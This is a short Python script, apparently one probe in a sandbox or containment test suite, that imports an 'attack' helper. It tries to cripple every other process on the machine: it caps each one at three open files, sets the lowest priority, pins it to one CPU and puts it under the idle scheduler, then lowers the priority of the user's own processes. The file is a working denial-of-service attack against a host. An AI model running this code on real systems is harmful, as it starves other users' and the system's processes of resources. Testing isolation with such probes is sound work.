"""Lowers limits and priority of all processes that it can, and moves them to one processor."""
import os
import resource
from attack import tried

own = os.getpid()


def for_all(change):
    hit = []
    for process in range(1, int(open("/proc/sys/kernel/pid_max").read()) if os.path.exists("/proc/sys") else 100_000):
        if process == own or process > 200_000:
            continue
        try:
            change(process)
            hit.append(process)
        except (OSError, ValueError):
            pass
    return f"{len(hit)} processes" if hit else None


one = {min(os.sched_getaffinity(0))}
tried(
    ("prlimit", lambda: for_all(lambda process: resource.prlimit(process, resource.RLIMIT_NOFILE, (3, 3)))),
    ("setpriority", lambda: for_all(lambda process: os.setpriority(os.PRIO_PROCESS, process, 19))),
    ("sched_setaffinity", lambda: for_all(lambda process: os.sched_setaffinity(process, one))),
    ("sched_setscheduler", lambda: for_all(lambda process: os.sched_setscheduler(process, os.SCHED_IDLE, os.sched_param(0)))),
    ("setpriority of the user", lambda: os.setpriority(os.PRIO_USER, os.getuid(), 19) or "set"),
)
